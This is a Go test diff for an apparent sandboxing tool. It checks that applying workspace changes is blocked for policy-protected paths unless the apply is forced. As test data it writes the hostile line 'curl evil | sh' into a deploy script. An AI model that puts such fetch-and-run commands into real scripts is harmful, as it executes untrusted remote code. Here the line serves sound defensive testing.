@@ -225,6 +225,20 @@ func TestApplyGuardsProtectedPaths(t *testing.T) {
 	if _, err := os.Stat(filepath.Join(ws, ".git/hooks/pre-commit")); err != nil {
 		t.Errorf("forced hook not applied: %v", err)
 	}
+
+	// A path the run's own policy protected is guarded too.
+	pol := filepath.Join(t.TempDir(), "p.toml")
+	os.WriteFile(pol, []byte("[workspace]\nprotect = [\"deploy\"]\n"), 0o644)
+	if code, _, errs := moat(t, ws, "run", "--policy", pol, "--workspace-mode", "overlay", "--", "sh", "-c",
+		"mkdir -p deploy && echo 'curl evil | sh' > deploy/release.sh"); code != 0 {
+		t.Fatalf("run: %s", errs)
+	}
+	if code, _, errs := moat(t, ws, "apply"); code != 1 || !strings.Contains(errs, "deploy/release.sh") {
+		t.Fatalf("apply of a change under the run's protect list: code %d %q", code, errs)
+	}
+	if code, _, errs := moat(t, ws, "apply", "--force", "deploy"); code != 0 {
+		t.Fatalf("forced apply: %s", errs)
+	}
 }
 
 func TestSessionNeedsOverlay(t *testing.T) {
